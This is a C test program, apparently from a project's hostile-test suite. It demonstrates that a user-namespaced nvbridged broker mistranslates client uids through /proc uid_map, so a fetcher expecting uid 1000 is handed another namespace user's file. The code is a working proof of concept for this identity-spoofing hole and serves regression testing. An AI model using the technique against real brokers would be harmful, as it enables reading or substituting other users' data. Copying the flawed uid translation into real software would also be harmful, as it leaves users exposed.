// SPDX-License-Identifier: MIT
/*
 * Attack: the broker running inside a user namespace (a rootless or
 * userns-isolated container running nvbridged for its pod) translates the
 * ids of clients in its OWN user namespace through /proc/<pid>/uid_map,
 * which, read by a process of the same namespace, shows the map to the
 * PARENT namespace (user_namespaces(7)).  So a client's EXPECT_UID=1000 is
 * taken as 100000+1000, which is another user of the same namespace: a
 * fetcher naming uid 1000 receives uid 101000's file, reported as uid 1000.
 *
 * Build and run: make check-attacks (tests/hostile/run-attacks.sh).
 * Runs as root (it becomes test uids), against the broker named in argv[1].
 * Exit 0: the attack worked (the hole is there); 1: it did not; 2: setup failed.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include "nvbridge.h"
#include "hostile.h"

#define BASE 100000		/* broker's user ns: inside 0..199999 -> host 100000.. */
#define VICTIM_PUB 1000		/* whose entry the fetcher expects */
#define ATTACKER (BASE + VICTIM_PUB)	/* an ordinary uid inside the namespace */
#define FETCHER 2000

static pid_t broker;
static char dir[] = "/tmp/nvb-userns.XXXXXX";

static void wmap(pid_t p, const char *file, const char *s)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", p, file);
	fd = open(path, O_WRONLY);
	if (fd < 0 || write(fd, s, strlen(s)) < 0)
		exit(2);
	close(fd);
}

/* a client: into the broker's user namespace as inside uid u */
static int enter(uid_t u)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/ns/user", broker);
	fd = open(path, O_RDONLY);
	if (fd < 0 || setns(fd, CLONE_NEWUSER))
		return -1;
	close(fd);
	if (setresgid(u, u, u) || setresuid(u, u, u))
		return -1;
	/* as after an execve: a uid change made us undumpable, /proc/self root-owned */
	return prctl(PR_SET_DUMPABLE, 1);
}

int main(int argc, char **argv)
{
	char sock[128], ids[64];
	int go[2], pub[2], st;
	pid_t a;

	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc < 2 || !mkdtemp(dir) || chown(dir, BASE, BASE) || pipe(go) || pipe(pub))
		return 2;
	snprintf(sock, sizeof(sock), "%s/s.sock", dir);
	setenv("NVBRIDGE_SOCKET", sock, 1);
	broker = fork();
	if (broker == 0) {
		char *bargv[] = { argv[1], "--socket", sock, NULL };
		/* opened before the ids change: the tree may not be searchable by them */
		int bin = open(argv[1], O_RDONLY | O_CLOEXEC);
		char c;

		if (bin < 0 || unshare(CLONE_NEWUSER) || read(go[0], &c, 1) != 1 ||
		    setresgid(0, 0, 0) || setresuid(0, 0, 0))
			_exit(2);
		fexecve(bin, bargv, environ);
		_exit(2);
	}
	usleep(100000);
	snprintf(ids, sizeof(ids), "0 %d 200000\n", BASE);
	wmap(broker, "uid_map", ids);
	wmap(broker, "setgroups", "deny");
	wmap(broker, "gid_map", ids);
	if (write(go[1], "x", 1) != 1)
		return 2;
	for (int i = 0; i < 100 && access(sock, F_OK); i++)
		usleep(50000);

	/* the attacker: an ordinary user of the same namespace, publishes job.rank0 */
	a = fork();
	if (a == 0) {
		int s, fd = memfd_create("attacker's file", 0), rfd;
		struct nvbridge_wire_hdr h;

		if (enter(ATTACKER) || (s = rconnect()) < 0 || rhello(s, -1))
			_exit(2);
		if (rpublish(s, 1, "job.rank0", fd, NVBRIDGE_ACCESS_SCOPE) ||
		    rrecv(s, &h, NULL, 0, &rfd, 3000) || h.result)
			_exit(2);
		if (write(pub[1], "x", 1) != 1)
			_exit(2);
		pause();
		_exit(0);
	}
	{
		char c;

		close(pub[1]);
		if (read(pub[0], &c, 1) != 1) {
			kill(broker, SIGKILL);
			return 2;
		}
	}
	/* the fetcher: wants job.rank0 of uid 1000 and nobody else's */
	pid_t f = fork();

	if (f == 0) {
		struct nvbridge_fetch fr = { .size = sizeof(fr),
					     .flags = NVBRIDGE_FETCH_EXPECT_UID,
					     .expect_uid = VICTIM_PUB };
		struct nvbridge_wire_hdr h;
		int s, rfd;

		snprintf(fr.name, sizeof(fr.name), "job.rank0");
		if (enter(FETCHER) || (s = rconnect()) < 0 || rhello(s, -1))
			_exit(2);
		if (rsend(s, NVBRIDGE_WIRE_REQUEST, NVBRIDGE_IOC_FETCH, 2, &fr, sizeof(fr), NULL, 0, -1) ||
		    rrecv(s, &h, &fr, sizeof(fr), &rfd, 3000))
			_exit(2);
		if (h.result) {
			printf("FETCH job.rank0 EXPECT_UID=%d: %s (correct: no such entry)\n",
			       VICTIM_PUB, strerror(-h.result));
			_exit(1);
		}
		char link[128] = "?", p[64];

		snprintf(p, sizeof(p), "/proc/self/fd/%d", rfd);
		if (readlink(p, link, sizeof(link) - 1) < 0)
			strcpy(link, "?");
		printf("FETCH job.rank0 EXPECT_UID=%d: got fd %s, reported uid %u: "
		       "the file of inside uid %d\n", VICTIM_PUB, link, fr.uid, ATTACKER);
		_exit(0);
	}
	waitpid(f, &st, 0);
	kill(a, SIGKILL);
	kill(broker, SIGTERM);
	waitpid(a, NULL, 0);
	waitpid(broker, NULL, 0);
	unlink(sock);
	rmdir(dir);
	return WIFEXITED(st) ? WEXITSTATUS(st) : 2;
}
